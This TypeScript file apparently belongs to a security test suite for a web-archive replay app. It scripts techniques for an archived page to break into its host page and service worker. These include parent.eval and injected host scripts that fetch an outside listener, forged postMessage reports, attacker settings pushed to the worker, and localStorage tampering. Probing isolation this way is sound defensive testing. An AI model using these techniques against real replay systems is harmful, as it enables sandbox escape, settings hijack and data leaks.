import type { Env, Technique } from './page-kit.ts'

/** Settings an attacker would push: blocks, records and name lookups from the outside listener. */
export const attackerSettings = (env: Env): string => JSON.stringify({ gateways: [env.out], routers: [env.out], quotaBytes: 16 * 1024 * 1024 })

/**
 * A script the host page (replay.html, same origin as archived pages) runs when an archived page adds
 * it as `<script src=URI-M>`: the host's CSP allows scripts of its own origin, and the worker serves
 * URI-Ms to the host. From the host's realm it gives the old-style orders (worker postMessage, the host's
 * own relay) and posts what it did on the host window.
 */
const hostScript = (env: Env): string => `
(async () => {
  const out = []; const S = ${attackerSettings(env)};
  const go = async (n, f) => { try { out.push([n, 'ran', String(await Promise.race([f(), new Promise((_, no) => setTimeout(() => no(new Error('no answer')), 1500))]))]) } catch (e) { out.push([n, 'threw', String(e && e.name) + ': ' + String(e && e.message)]) } };
  await go('host fetch', () => fetch(${JSON.stringify(env.out)} + '/t/host-script/fetch').then(r => r.status));
  await go('host worker postMessage settings', () => new Promise((ok) => { navigator.serviceWorker.addEventListener('message', (e) => ok(JSON.stringify(e.data).slice(0, 120))); navigator.serviceWorker.controller.postMessage({ type: 'settings', id: 4242, settings: S }) }));
  await go('host relay to itself', () => { window.postMessage({ type: 'worker', message: { type: 'settings', id: 4243, settings: S } }, self.origin); return 'posted' });
  await go('host posts navigated (other archive) to the app', () => { top.postMessage({ type: 'navigated', page: ${JSON.stringify(env.benign)}, title: 'forged by the host realm' }, '*'); return 'posted' });
  await go('host posts page (other archive) to the app', () => { top.postMessage({ type: 'page', page: ${JSON.stringify(env.benign)}, url: 'http://www.iana.org/', title: 'forged', datetime: '20140126200624' }, '*'); return 'posted' });
  await go('host navigates the app frames to a call', () => { let n = 0; for (let i = 0; i < top.frames.length; i++) { if (top.frames[i] !== self) { top.frames[i].location.href = '/sw/call?c=' + encodeURIComponent(JSON.stringify({ id: 'h' + i, call: { type: 'settings' }, settings: S })); n++ } } return n });
  window.__hostileHost = out;
  window.dispatchEvent(new Event('hostile-host'));
})();`

/** Reaching into the replay host page (the archived page's same-origin parent) and using what it can do. */
export const hostAttacks: Technique[] = [
  {
    id: 'parent-eval',
    what: 'parent.eval, parent.Function and parent.setTimeout(string) in the host page: fetch to the outside, then navigating the host away',
    navigates: true,
    script: () => `
await step('parent.eval fetch', () => parent.eval('fetch(' + JSON.stringify(tag('eval')) + ').then(r => r.status)'))
await step('parent.Function fetch', () => parent.Function('return fetch(' + JSON.stringify(tag('function')) + ').then(r => r.status)')())
await step('parent.setTimeout(string)', () => { parent.setTimeout('fetch(' + JSON.stringify(tag('timeout')) + ')'); return 'scheduled' })
report(true)
await step('parent.eval navigates the host', () => parent.eval('location.href = ' + JSON.stringify(tag('host-nav'))))`
  },
  {
    id: 'parent-apis',
    what: 'the host page\'s own fetch, XHR, WebSocket, sendBeacon and Image called from the archived page',
    script: () => `
await step('parent.fetch', () => parent.fetch(tag('fetch')).then(r => r.status))
await step('parent.XMLHttpRequest', () => new Promise((ok, no) => { const x = new parent.XMLHttpRequest(); x.open('GET', tag('xhr')); x.onload = () => ok(x.status); x.onerror = () => no(new Error('error event')); x.send() }))
await step('parent.WebSocket', () => socket(parent.WebSocket, WS + '/t/' + ID + '/ws'))
await step('parent.navigator.sendBeacon', () => parent.navigator.sendBeacon(tag('beacon'), 'x'))
await step('parent.Image', () => { const i = new parent.Image(); const p = loaded(i); i.src = tag('img'); parent.document.body.append(i); return p })`
  },
  {
    id: 'app-origin-page',
    what: 'this archive\'s page opened on the app origin (the node serves raw mementos there): from the host realm into the app\'s frames and top',
    navigates: true,
    script: () => `
const app = window['loc' + 'ation'].ancestorOrigins[1] || window['loc' + 'ation'].ancestorOrigins[0]
const raw = app + urim('/t/app-origin-page/stage2')
await step('app origin', () => app)
await step('frame it in the page', () => { const f = document.createElement('iframe'); realm().Element.prototype.setAttribute.call(f, 'src', raw); document.body.append(f); return loaded(f) }, 2000)
await step('frame it in the host', () => { const f = parent.document.createElement('iframe'); f.src = raw; parent.document.body.append(f); return loaded(f) }, 2000)
await step('navigate the app\\'s other frames', () => { let n = 0; for (let i = 0; i < top.frames.length; i++) { if (top.frames[i] !== parent) { top.frames[i].location.href = raw; n++ } } return n })
report(true)
await step('top.location.href =', () => { top.location.href = raw; return 'set' })`,
    stage2: env => `
const S = ${attackerSettings(env)}
const replay = window['loc' + 'ation'].ancestorOrigins[0]
await step('origin', () => self.origin)
await step('app localStorage', () => Object.keys(top.localStorage).join(','))
await step('write the app settings', () => { top.localStorage.setItem('iparo.replaySettings', JSON.stringify(S)); return 'set' })
await step('order the worker from here', () => { const f = document.createElement('iframe'); f.referrerPolicy = 'origin'; f.src = replay + '/sw/call?c=' + encodeURIComponent(JSON.stringify({ id: 'app-origin', call: { type: 'settings' }, settings: S })); document.body.append(f); return loaded(f) })
await step('fetch', () => fetch(tag('stage2')).then(r => r.status))
await step('fresh realm fetch', () => realm().fetch(tag('realm')).then(r => r.status))`
  },
  {
    id: 'worker-messages',
    what: 'orders posted to the replay worker: from the page, through parent.navigator.serviceWorker.controller, and through the host\'s relay',
    script: env => `
const S = ${attackerSettings(env)}
const answer = (c) => new Promise((ok) => { c.addEventListener('message', (e) => ok(JSON.stringify(e.data).slice(0, 160))) })
await step('own controller settings', () => { const a = answer(navigator.serviceWorker); navigator.serviceWorker.controller.postMessage({ type: 'settings', id: 4301, settings: S }); return a }, 2000)
await step('parent controller settings', () => { const a = answer(parent.navigator.serviceWorker); parent.navigator.serviceWorker.controller.postMessage({ type: 'settings', id: 4302, settings: S }); return a }, 2000)
await step('parent relay settings', () => { parent.postMessage({ type: 'worker', message: { type: 'settings', id: 4303, settings: S } }, '*'); return 'posted' })
await step('parent controller clear-cache', () => { const a = answer(parent.navigator.serviceWorker); parent.navigator.serviceWorker.controller.postMessage({ type: 'clear-cache', id: 4304 }); return a }, 2000)`
  },
  {
    id: 'replay-html-frame',
    what: 'a new /replay.html in a frame of the page (no referrer, so it is not read as the page\'s request), scripted and given orders as its parent',
    script: env => `
const S = ${attackerSettings(env)}
const f = document.createElement('iframe')
f.referrerPolicy = 'no-referrer'
await step('load /replay.html', () => { realm().Element.prototype.setAttribute.call(f, 'src', '/replay.html'); document.body.append(f); return loaded(f).then(() => f.contentDocument.title) }, 4000)
await step('its ready report', () => message(d => d.type === 'ready', 3000))
await step('order it, as its parent', () => { f.contentWindow.postMessage({ type: 'worker', message: { type: 'settings', id: 4401, settings: S } }, '*'); return message(d => d.type === 'worker', 2000) }, 2500)
await step('its worker, from its realm', () => { const a = new Promise((ok) => f.contentWindow.navigator.serviceWorker.addEventListener('message', (e) => ok(JSON.stringify(e.data).slice(0, 160)))); f.contentWindow.navigator.serviceWorker.controller.postMessage({ type: 'settings', id: 4402, settings: S }); return a }, 2000)
await step('open another archive in its frame', () => { f.contentWindow.postMessage({ type: 'open', page: BENIGN }, '*'); return message(d => d.type === 'navigated', 3000) }, 3500)`
  },
  {
    id: 'host-script',
    what: 'a script element added to parent.document (inline, and src = a URI-M of this archive): orders to the worker, forged reports to the app from the host realm',
    extra: env => [{ path: '/t/host-script/host.js', contentType: 'text/javascript', body: hostScript(env) }],
    script: () => `
await step('inline script in parent', () => { const s = parent.document.createElement('script'); s.textContent = 'window.__hostileInline = 1; fetch(' + JSON.stringify(tag('inline')) + ')'; parent.document.body.append(s); return String(parent.__hostileInline) })
await step('script src=URI-M in parent', () => { const s = parent.document.createElement('script'); s.src = urim('/t/host-script/host.js', 'js_'); parent.document.body.append(s); return loaded(s) })
await step('host realm report', async () => { if (!parent.__hostileHost) await new Promise(ok => parent.addEventListener('hostile-host', ok, { once: true })); for (const s of parent.__hostileHost) steps.push(['host: ' + s[0], s[1], s[2]]); return 'reported' }, 6000)`
  }
]
